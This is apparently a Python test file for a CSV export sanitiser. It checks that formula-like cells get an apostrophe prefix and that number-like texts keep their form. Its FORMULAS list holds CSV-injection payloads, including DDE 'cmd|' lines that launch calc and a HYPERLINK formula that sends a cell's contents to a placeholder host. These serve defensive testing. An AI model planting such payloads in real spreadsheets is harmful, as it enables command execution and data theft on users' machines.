"""Cells of a CSV file: any text comes back as it was, and no cell is a formula or a number that was
a text."""

import csv
import io
from decimal import Decimal

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from neural.admin.exporting.formats import CUT, LONGEST, number_cell, text_cell

FORMULAS = [
    "=1+1",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    '=HYPERLINK("http://x.example/?"&A1,"谢谢")',
    "=cmd|'/c calc'!A1",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\u3000=1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "\x01=1+1",
    "\0=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    '"=1+1"',
    "'=1+1",
    "''=1+1",
    '" =1+1',
    "\tplain",
    "+8613812345678",
]


def read(cell: str) -> str:
    """The cell as a CSV reader gets it back from a file."""
    written = io.StringIO()
    csv.writer(written, lineterminator="\r\n").writerow([cell, "next"])
    found, after = next(csv.reader(io.StringIO(written.getvalue(), newline="")))
    assert after == "next"
    return found


def original(cell: str) -> str:
    """What a program takes off again, as docs/how-to/export.md says."""
    if cell.startswith("'") and text_cell(cell[1:]) == cell:
        return cell[1:]
    if cell.endswith("\t") and text_cell(cell[:-1]) == cell:
        return cell[:-1]
    return cell


@pytest.mark.parametrize("text", FORMULAS)
def test_what_could_be_a_formula_begins_with_an_apostrophe(text: str) -> None:
    assert text_cell(text)[0] == "'"


@pytest.mark.parametrize(
    "text",
    [
        "202611270000012345",  # the fifteen digits that Excel keeps are not enough
        "123456789012",  # would be shown as 1.23457E+11
        "007",
        "12E3",
        "1.10",
        "2026-11-27",
        "3/4",
        "3月4日",
        "12:30",
        "1 Jan",
        "mar-2",
        "50%",
        "(12)",
        "TRUE",
    ],
)
def test_a_text_like_a_number_or_a_date_stays_a_text_by_a_tab_behind_it(text: str) -> None:
    assert text_cell(text) == f"{text}\t"


@pytest.mark.parametrize(
    "text", ["", "13812345678", "0", "42", "S001", "till-7", "A-12", "蛋挞", "1 egg tart", "e5b"]
)
def test_any_other_text_is_a_cell_as_it_is(text: str) -> None:
    assert text_cell(text) == text


@given(st.text())
@example("=\r\n,\";'\t")
@example("'\tx")
@example("12\t")
@example("'12\t")
def test_any_text_comes_back_and_no_cell_begins_a_formula(text: str) -> None:
    cell = read(text_cell(text))

    assert cell.lstrip(' \u3000\u200b\ufeff"')[:1] not in tuple("=+-@\t\r\n＝＋－＠")
    assert original(cell) == text.replace("\0", "")


@given(st.sampled_from("=+-@＝＋－＠"), st.text(alphabet=" \t\r\n'\"\u200b\0\x01\u3000"), st.text())
def test_nothing_before_a_formula_hides_it(mark: str, before: str, after: str) -> None:
    assert text_cell(before + mark + after)[0] == "'"


def test_a_negative_number_stays_a_number() -> None:
    assert [number_cell(each) for each in (-5, Decimal("-12.50"), -0.5)] == ["-5", "-12.50", "-0.5"]


def test_numbers_that_a_spreadsheet_cannot_keep_are_texts() -> None:
    assert number_cell(1234567890123456) == "1234567890123456\t"
    assert number_cell(float("-inf")) == "'-inf"
    assert number_cell(Decimal("NaN")) == "NaN"
    assert number_cell(Decimal("0.000000001")) == "0.000000001"


def test_a_text_longer_than_a_cell_is_cut_and_says_so() -> None:
    cell = text_cell("=" * 40_000)

    assert len(cell) <= LONGEST
    assert cell.endswith(CUT)
    assert len(text_cell("x" * (LONGEST - 2))) == LONGEST - 2
